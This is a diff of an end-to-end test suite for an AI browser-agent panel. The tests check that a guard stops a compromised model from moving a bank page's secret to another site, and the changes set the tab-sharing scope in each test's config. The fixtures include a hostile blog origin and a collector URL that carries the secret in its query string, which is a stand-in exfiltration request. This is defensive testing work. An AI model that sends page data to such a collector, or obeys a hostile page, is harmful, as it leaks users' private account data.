@@ -149,10 +149,11 @@ test('a compromised model cannot carry the bank page’s data to another site th
   fakeApi,
 }) => {
   test.setTimeout(120_000);
-  await connectToFakeApi(panel, fakeApi, { yaml: '  mode: both\n' });
+  // Tab scope (#27) is not the question here: the user shared every tab; the guard must still stop the flow.
+  await connectToFakeApi(panel, fakeApi, { yaml: '  mode: both\ntabs:\n  scope: all\n' });
   await panelRequest(panel, {
     type: 'config.save',
-    yaml: `agent:\n  base_url: ${fakeApi.url}\n  model: gpt-test\n  mode: both\nservers:\n  notes: {url: "${mcp.url}"}\n`,
+    yaml: `agent:\n  base_url: ${fakeApi.url}\n  model: gpt-test\n  mode: both\ntabs:\n  scope: all\nservers:\n  notes: {url: "${mcp.url}"}\n`,
   });
   const bank = await openTab(panel, `${secret.origin}/account`);
   const blog = await openTab(panel, `${hostile.origin}/post`);
@@ -290,7 +291,7 @@ test('everyday work across sites asks nothing: todos in a Vue app, a search with
   pages,
 }) => {
   test.setTimeout(90_000);
-  await connectToFakeApi(panel, fakeApi);
+  await connectToFakeApi(panel, fakeApi, { yaml: 'tabs:\n  scope: all\n' });
 
   // 1. Add todos in a framework app: Enter in a field outside any form is no submission.
   const todo = await openTab(panel, `${pages.origin}/apps/vue.html`);
@@ -375,7 +376,7 @@ test('the panel’s card names the flow and what would leave; allow once lets ex
   panel,
   fakeApi,
 }) => {
-  await connectToFakeApi(panel, fakeApi);
+  await connectToFakeApi(panel, fakeApi, { yaml: 'tabs:\n  scope: all\n' });
   const bank = await openTab(panel, `${secret.origin}/account`);
   const target = `${collector.origin}/ok?d=${SECRET}`;
   fakeApi.script([
